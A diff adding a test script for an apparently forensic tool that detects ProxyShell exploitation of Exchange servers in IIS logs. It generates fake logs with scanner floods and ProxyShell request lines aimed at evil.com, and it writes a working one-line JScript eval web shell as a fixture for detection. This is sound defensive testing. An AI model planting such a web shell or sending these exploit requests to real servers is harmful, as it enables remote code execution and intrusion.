@@ -1,0 +1,61 @@
+# exhunt hunt is never blinded and never depends on timing: a flood of
+# internet-scanner lines (anyone can cause one) before the real
+# exploitation is counted, not dropped, and the exploitation and the web
+# shell are still found; a second #Fields header applies from its line
+# on; a run of NUL bytes (unclean shutdown) does not swallow the lines
+# after it, in UTF-8 and UTF-16 logs; the same tree hunted with 1, 2 and 8
+# threads (on a loaded machine) gives byte-identical JSON.
+. "$(dirname "$0")/lib.sh"
+tree="$TMP/ev"
+logs="$tree/inetpub/logs/LogFiles/W3SVC1"
+mkdir -p "$logs" "$tree/inetpub/wwwroot/aspnet_client"
+python3 - "$logs" "${FLOOD_LINES:-1200000}" <<'PY'
+import sys
+d, n = sys.argv[1], int(sys.argv[2])
+hdr = "#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\r\n"
+scan = "2021-08-10 00:%02d:%02d 10.0.0.5 GET /autodiscover/autodiscover.json @test.com/owa/?&Email=autodiscover/autodiscover.json%%3F@test.com 443 - 198.51.100.%d Mozilla/5.0 302\r\n"
+with open(d + "/u_ex210810.log", "w", newline="") as f:
+    f.write(hdr)
+    for i in range(n):
+        f.write(scan % (i // 60 % 60, i % 60, i % 250))
+    # A later header with another field order, then the real thing.
+    f.write("#Fields: date time c-ip cs-username cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent)\r\n")
+    f.write("2021-08-20 11:00:01 203.0.113.66 - POST /autodiscover/autodiscover.json @evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com 200 python-requests/2.26.0\r\n")
+# NUL runs: a preallocated log cut by a crash, then the next session.
+with open(d + "/u_ex210821.log", "wb") as f:
+    f.write(hdr.encode())
+    f.write(b"2021-08-21 01:00:00 10.0.0.5 GET /owa/ - 443 - 10.1.2.3 Mozilla 200\r\n2021-08-21 01:00:01 10.0.0.5 GET /o")
+    f.write(b"\0" * 70001)
+    f.write(b"2021-08-21 09:00:00 10.0.0.5 POST /autodiscover/autodiscover.json @evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.com 443 - 203.0.113.66 python-requests/2.26.0 200\r\n")
+u16 = (hdr + "2021-08-22 01:00:00 10.0.0.5 GET /owa/ - 443 - 10.1.2.3 Mozilla 200\r\n").encode("utf-16-le")
+u16 += b"\0" * 3333
+u16 += "2021-08-22 02:00:00 10.0.0.5 POST /ecp/x@evil.com/RulesEditor/InboxRules.svc/NewObject msExchEcpCanary=1 443 - 203.0.113.66 python-requests 200\r\n".encode("utf-16-le")
+open(d + "/u_ex210822.log", "wb").write(b"\xff\xfe" + u16)
+PY
+printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["q"],"unsafe");%%>' > "$tree/inetpub/wwwroot/aspnet_client/x.aspx"
+
+"$EXHUNT" hunt "$tree" --format json -o "$TMP/1.json" --threads 1 --no-progress 2>/dev/null || true
+python3 - "$TMP/1.json" <<'PY' || fail "the flood blinded the hunt"
+import json, sys
+r = json.load(open(sys.argv[1]))
+v = r["verdicts"]
+problems = []
+if v["CVE-2021-34473"] != "back-doored": problems.append(f"34473 {v['CVE-2021-34473']}")
+if v["CVE-2021-34523"] != "back-doored": problems.append(f"34523 after a NUL run: {v['CVE-2021-34523']}")
+if v["CVE-2021-33766"] != "exploited": problems.append(f"33766 after a UTF-16 NUL run: {v['CVE-2021-33766']}")
+if not any(b["path"].endswith("x.aspx") for b in r["backdoors"]): problems.append("shell missing")
+scans = [f for f in r["findings"] if f["kind"] == "proxyshell-scan"]
+total = len(scans) + sum(f.get("more", 0) for f in scans)
+if total != int(sys.argv[2] if len(sys.argv) > 2 else 1200000) and total < 1000000: problems.append(f"scanner lines counted {total}")
+if not r["aggregated"] or len(scans) > 100: problems.append(f"not aggregated: {len(scans)} listed")
+if problems: print(problems); sys.exit(1)
+PY
+# Byte-identical whatever the threads, with the other core kept busy.
+( end=$((SECONDS + 20)); while [ $SECONDS -lt $end ]; do :; done ) &
+busy=$!
+for t in 2 8; do
+	"$EXHUNT" hunt "$tree" --format json -o "$TMP/$t.json" --threads $t --no-progress 2>/dev/null || true
+	cmp -s "$TMP/1.json" "$TMP/$t.json" || { kill $busy; fail "JSON differs with $t threads"; }
+done
+kill $busy 2>/dev/null || true
+echo "hunt_flood: ok"
